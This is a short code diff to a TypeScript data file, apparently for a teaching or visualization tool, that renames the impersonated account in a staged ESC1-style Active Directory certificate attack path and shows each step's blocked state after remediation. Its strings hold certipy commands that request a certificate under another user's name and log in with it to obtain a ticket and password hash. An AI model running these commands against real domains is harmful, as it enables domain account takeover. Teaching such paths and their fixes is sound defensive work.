@@ -43,14 +43,14 @@ export const networkPath: AttackPath = {
       name: 'Ask for another name',
       lines: [
         '$ certipy req -ca KESTREL-CA -template VPN-User \\',
-        '    -upn {-administrator@corp.kestrel.example-} {#1}',
+        '    -upn {-da1@corp.kestrel.example-} {#1}',
         '[*] Successfully requested certificate',
-        '[*] Got certificate with UPN {+administrator@[...]+}',
+        '[*] Got certificate with UPN {+da1@[...]+}',
       ],
       notes: ['the requester chooses the subject'],
       after: [
         '$ certipy req -ca KESTREL-CA -template VPN-User \\',
-        '    -upn {-administrator@corp.kestrel.example-}',
+        '    -upn {-da1@corp.kestrel.example-}',
         '{+[-] CERTSRV_E_TEMPLATE_DENIED+}',
       ],
     },
@@ -60,12 +60,12 @@ export const networkPath: AttackPath = {
       lane: 1,
       name: 'Log in with it',
       lines: [
-        '$ certipy auth -pfx administrator.pfx -dc-ip 10.20.0.10',
+        '$ certipy auth -pfx da1.pfx -dc-ip 10.20.0.10',
         '[*] Got TGT',
-        '[*] Got hash for {+administrator+}: [redacted]',
+        '[*] Got hash for {+da1+}: [redacted]',
       ],
       after: [
-        '$ certipy auth -pfx administrator.pfx -dc-ip 10.20.0.10',
+        '$ certipy auth -pfx da1.pfx -dc-ip 10.20.0.10',
         '{+[-] KDC_ERR_CLIENT_REVOKED+}',
         '# the first certificate is revoked, too',
       ],
